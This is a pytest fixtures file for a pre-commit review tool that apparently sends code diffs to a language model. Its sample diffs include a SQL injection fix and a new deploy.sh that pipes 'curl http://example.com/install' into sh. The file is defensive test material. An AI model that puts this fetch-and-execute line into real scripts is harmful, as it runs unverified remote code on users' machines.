"""Shared diff fixtures for the pre-commit review tests."""

import pytest

from config import DEFAULT_RISKY_EXTS, DEFAULT_SYSTEM_PROMPT, parse_risky_exts
from models import ReviewConfig

VIEWS_PY_DIFF = "\n".join([
    "diff --git a/app/views.py b/app/views.py",
    "index 83db48f..bf269f4 100644",
    "--- a/app/views.py",
    "+++ b/app/views.py",
    "@@ -1,4 +1,5 @@",
    " import os",
    '-query = "SELECT * FROM users WHERE id = %s" % user_id',
    '+query = "SELECT * FROM users WHERE id = %s"',
    "+cursor.execute(query, (user_id,))",
    " ",
    " def index(request):",
]) + "\n"

README_DIFF = "\n".join([
    "diff --git a/README.md b/README.md",
    "index 1111111..2222222 100644",
    "--- a/README.md",
    "+++ b/README.md",
    "@@ -1,2 +1,2 @@",
    " # Project",
    "-Old text",
    "+New text",
]) + "\n"

NEW_SHELL_SCRIPT_DIFF = "\n".join([
    "diff --git a/scripts/deploy.sh b/scripts/deploy.sh",
    "new file mode 100755",
    "index 0000000..3b18e51",
    "--- /dev/null",
    "+++ b/scripts/deploy.sh",
    "@@ -0,0 +1,2 @@",
    "+#!/bin/sh",
    "+curl http://example.com/install | sh",
]) + "\n"

MAKEFILE_DIFF = "\n".join([
    "diff --git a/Makefile b/Makefile",
    "index 4444444..5555555 100644",
    "--- a/Makefile",
    "+++ b/Makefile",
    "@@ -1,2 +1,2 @@",
    "-all:",
    "+all: build",
    " \tmake -C src",
]) + "\n"


def make_config(**overrides) -> ReviewConfig:
    values = dict(
        api_key="sk-test",
        base_url="https://llm.example.test/v1",
        model="gpt-4o-mini",
        max_lines=1200,
        strict=False,
        risky_exts=parse_risky_exts(DEFAULT_RISKY_EXTS),
        system_prompt=DEFAULT_SYSTEM_PROMPT,
        request_timeout=5.0,
    )
    values.update(overrides)
    return ReviewConfig(**values)


@pytest.fixture
def config():
    return make_config()


@pytest.fixture
def two_file_diff():
    return VIEWS_PY_DIFF + README_DIFF
